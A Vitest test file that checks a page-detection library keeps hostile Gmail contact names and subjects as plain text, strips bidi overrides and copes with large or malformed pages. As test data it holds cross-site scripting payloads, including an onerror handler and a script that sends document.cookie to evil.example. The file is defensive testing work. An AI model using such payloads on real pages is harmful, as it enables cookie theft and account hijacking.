// Bad input: names and subjects that are HTML or script, bidi overrides, a megabyte of text.
// Detection never throws, never creates elements, and returns page text as plain text.

import { describe, expect, it } from 'vitest';
import { detectPage, pageContext } from '../../../lib/detect/index';
import { fixture, parseWithHappyDom, parseWithLinkedom } from './helpers';

describe('hostile page', () => {
  const f = fixture('hostile-names');

  for (const [engine, parse] of [['linkedom', parseWithLinkedom], ['happy-dom', (html: string) => parseWithHappyDom(html, f.url)]] as const) {
    it(`never throws and returns names as literal text (${engine})`, () => {
      const doc = parse(f.html);
      const before = doc.querySelectorAll('*').length;
      const out = detectPage(doc, new URL(f.url));
      expect(out.site).toBe('gmail');
      const names = out.contacts.map((c) => c.name);
      expect(names).toContain('<script>alert("pwned")</script>Mallory');
      expect(names).toContain('<img src=x onerror=alert(document.cookie)>');
      // Bidi overrides are stripped so a name cannot display as something else.
      expect(names).toContain('Eve fdp.exe');
      expect(names.join('')).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
      // Nothing was parsed into the page: no script or img elements appeared.
      expect(doc.querySelectorAll('script, img, svg').length).toBe(0);
      expect(doc.querySelectorAll('*').length).toBe(before);
    });
  }

  it('keeps the subject as text', () => {
    const ctx = pageContext(parseWithLinkedom(f.html), new URL(f.url));
    expect(ctx.subject).toBe("<b>URGENT</b><script>fetch('https://evil.example/?c='+document.cookie)</script> overdue invoice");
  });

  // How fast is the bench's business (npm run bench: first detection on a heavy page); a timed
  // unit test only measures how busy the machine is. What must hold here is the outcome.
  it('reads a megabyte of text through the adapter and the generic detector alike', () => {
    const doc = parseWithLinkedom(f.html);
    const viaAdapter = detectPage(doc, new URL(f.url));
    const viaGeneric = detectPage(doc, new URL('https://example.org/'));
    expect(viaAdapter.site).toBe('gmail');
    expect(viaGeneric.site).toBe('generic');
    const emails = (r: typeof viaAdapter) => new Set(r.contacts.flatMap((c) => (c.email ? [c.email] : [])));
    expect(emails(viaAdapter).size).toBeGreaterThan(0);
    for (const e of emails(viaAdapter)) expect(emails(viaGeneric)).toContain(e);
  });

  it('never throws when the page removes nodes or has odd roots', () => {
    const doc = parseWithLinkedom(f.html);
    const url = new URL(f.url);
    const orphan = doc.createElement('div');
    expect(() => detectPage(orphan, url)).not.toThrow();
    expect(() => detectPage(doc.createDocumentFragment(), url)).not.toThrow();
    doc.querySelector('h3')?.remove();
    expect(() => detectPage(doc, url)).not.toThrow();
  });
});
